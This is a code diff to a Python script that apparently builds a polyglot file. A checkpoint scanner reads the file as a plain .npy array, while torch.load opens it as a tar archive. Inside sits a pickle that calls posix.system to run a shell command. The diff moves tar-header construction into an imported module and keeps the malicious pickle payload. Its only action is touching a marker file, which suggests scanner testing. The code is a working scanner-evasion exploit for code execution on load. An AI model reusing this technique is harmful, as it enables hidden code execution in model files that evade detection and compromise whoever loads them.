@@ -5,17 +5,9 @@ header 1 'storages' and the payload pickle. ckptguard sniffs .npy before tar (co
 Opener::Open) and calls it a plain float array; torch.load tries tarfile first on any non-zip file.
 Usage: tar_in_npy.py OUT MARKER"""
 import sys, struct
+from tarblocks import header as tar_header
 def payload(marker):
     return b"cposix\nsystem\n(S'touch " + marker.encode() + b"'\ntR."
-def tar_header(name, size):
-    h = bytearray(512)
-    h[0:len(name)] = name
-    h[100:108] = b'0000644\0'; h[108:116] = b'0000000\0'; h[116:124] = b'0000000\0'
-    h[124:136] = b'%011o\0' % size; h[136:148] = b'00000000000\0'; h[156:157] = b'0'
-    h[257:263] = b'ustar\0'; h[263:265] = b'00'
-    h[148:156] = b' ' * 8
-    h[148:156] = b'%06o\0 ' % sum(h)
-    return bytes(h)
 def build(marker):
     pay = payload(marker)
     data = tar_header(b'storages', len(pay)) + pay
